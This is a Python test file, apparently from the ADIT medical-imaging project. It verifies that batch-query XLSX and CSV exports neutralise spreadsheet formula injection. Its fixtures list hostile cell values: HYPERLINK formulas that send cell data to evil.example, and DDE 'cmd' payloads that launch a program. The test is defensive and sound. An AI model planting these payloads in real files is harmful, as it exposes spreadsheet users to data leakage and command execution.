"""Exports are data, never code: hostile pseudonyms (from the uploaded file) and hostile
study descriptions (from a real Orthanc) come out of the .xlsx as string cells without any
formula element and out of the .csv neutralised, and read back unchanged in a batch file."""

import csv
import io
import re
import uuid
import zipfile

import pytest
from django.urls import reverse

from adit.batch_query.models import BatchQueryJob
from adit.batch_query.processors import BatchQueryTaskProcessor
from adit.batch_query.tests.conftest import give_access, server_from_orthanc
from adit.batch_transfer.parsers import parse_batch_transfer_file
from adit.core.dicom.testing.synthetic import make_study
from adit.core.statuses import Status
from adit.core.testing.sheets import csv_upload, upload

pytestmark = pytest.mark.django_db

TRIGGERS = ("=", "+", "-", "@")
PSEUDONYMS = {
    "=": '=HYPERLINK("http://evil.example/leak="&B2,"x")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-5",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
}
DESCRIPTIONS = {
    "=": '=HYPERLINK("http://evil.example/?d="&C2)',
    "+": "+CT Thorax",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@MR Head",
}


@pytest.fixture
def hostile_job(client, researcher, researchers, orthanc_a):
    source = server_from_orthanc(orthanc_a, "Orthanc A")
    give_access(researchers, source, source=True, destination=False)
    prefix = f"FX{uuid.uuid4().hex[:8]}"
    for n, trigger in enumerate(TRIGGERS):
        orthanc_a.upload(
            make_study(
                f"{prefix}{n}",
                study_description=DESCRIPTIONS[trigger],
                series=(("CT", 1),),
                compressed_series=False,
            )
        )
    client.force_login(researcher)
    rows = [["PatientID", "Modality", "Pseudonym"]] + [
        [f"{prefix}{n}", "CT", PSEUDONYMS[trigger]] for n, trigger in enumerate(TRIGGERS)
    ]
    response = client.post(
        reverse("batch_query:job_create"),
        {
            "source": source.pk,
            "project_name": "Formulas",
            "project_description": "Hostile values",
            "batch_file": csv_upload(rows),
        },
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    job = BatchQueryJob.objects.get(project_name="Formulas")
    for task in job.tasks.all():
        result = BatchQueryTaskProcessor(task).process()
        assert result.status == Status.SUCCESS, result.message
    return job


def test_xlsx_and_csv_exports_hold_no_formula(client, hostile_job):
    job = hostile_job
    url = reverse("batch_query:download", args=[job.pk])

    response = client.get(url, {"format": "xlsx", "failures": "1"})
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        sheets = [archive.read(name).decode() for name in archive.namelist() if "sheet" in name]
    sheet_xml = "".join(sheets)
    assert not re.search(r"<f[\s>/]", sheet_xml), "the xlsx holds a formula element"
    assert sheet_xml.count("<c ") == sheet_xml.count('t="inlineStr"')
    texts = re.findall(r"<t(?: [^>]*)?>([^<]*)</t>", sheet_xml)
    unescaped = [t.replace("&amp;", "&").replace("&quot;", '"') for t in texts]
    for trigger in TRIGGERS:
        assert "'" + PSEUDONYMS[trigger] in unescaped
        assert "'" + DESCRIPTIONS[trigger] in unescaped
    assert not [t for t in unescaped if t.startswith(("=", "+", "-", "@", "\t", "\r"))]

    response = client.get(url, {"format": "csv"})
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 1 + len(TRIGGERS)
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    for trigger in TRIGGERS:
        assert "'" + PSEUDONYMS[trigger] in cells
        assert "'" + DESCRIPTIONS[trigger] in cells
    # Every field is quoted: no value can spill into the next cell in any locale.
    for line in text.splitlines():
        assert line.startswith('"') and line.endswith('"')

    # Uploaded to batch transfer unchanged, the export gives back the original pseudonyms.
    xlsx = client.get(url, {"format": "xlsx"}).content
    for name, data in (("e.csv", response.content), ("e.xlsx", xlsx)):
        studies = parse_batch_transfer_file(
            upload(data, name), max_rows=100, max_bytes=10**6, pseudonym_required=True
        )
        assert sorted(study.pseudonym for study in studies) == sorted(PSEUDONYMS.values())
